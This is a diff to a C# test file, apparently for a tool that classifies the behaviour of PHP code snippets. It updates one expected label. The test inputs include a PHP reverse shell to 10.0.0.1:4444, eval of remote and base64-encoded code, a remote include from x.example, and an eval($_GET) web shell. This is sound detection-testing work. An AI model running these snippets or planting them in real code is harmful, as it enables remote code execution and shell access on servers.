@@ -36,7 +36,7 @@ public sealed class PhpTests
     [InlineData("eval(base64_decode('dW5saW5rKCdhJyk7'));", "execute-hidden-code base64, delete a")]
     [InlineData("eval(file_get_contents('https://x.example/a'));", "fetch https://x.example/a, execute-remote-code https://x.example/a")]
     [InlineData("include 'https://x.example/a.php';", "execute-remote-code https://x.example/a.php")]
-    [InlineData("$s = fsockopen('10.0.0.1', 4444); exec('/bin/sh -i <&3 >&3 2>&3');", "open-socket 10.0.0.1:4444, execute-hidden-code shell, execute a shell")]
+    [InlineData("$s = fsockopen('10.0.0.1', 4444); exec('/bin/sh -i <&3 >&3 2>&3');", "open-socket 10.0.0.1:4444, execute-hidden-code shell, execute a shell, execute-hidden-code sh")]
     [InlineData("function clean($p) { unlink($p); } clean('a');", "delete a")]
     [InlineData("class A { private $p; function __construct($p) { $this->p = $p; } function go() { unlink($this->p); } } (new A('a'))->go();", "delete a")]
     [InlineData("eval($_GET['c']);", "execute-hidden-code php")]
